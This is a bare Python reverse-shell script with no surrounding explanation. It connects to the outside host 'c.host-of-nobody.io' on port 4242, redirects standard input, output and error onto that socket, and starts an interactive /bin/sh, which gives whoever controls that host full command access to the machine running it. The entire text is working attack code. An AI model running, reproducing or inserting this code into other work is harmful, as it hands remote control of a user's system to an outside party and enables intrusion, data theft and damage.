import os, socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('c.host-of-nobody.io', 4242))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(['/bin/sh', '-i'])
